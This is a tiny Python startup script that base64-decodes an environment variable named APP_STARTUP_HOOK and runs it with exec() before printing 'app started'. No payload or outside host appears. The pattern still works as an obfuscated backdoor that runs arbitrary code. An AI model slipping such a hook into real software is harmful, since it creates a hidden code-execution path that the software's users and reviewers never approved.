import os
import base64

hook = os.environ.get("APP_STARTUP_HOOK")
if hook:
    exec(base64.b64decode(hook))
print("app started")
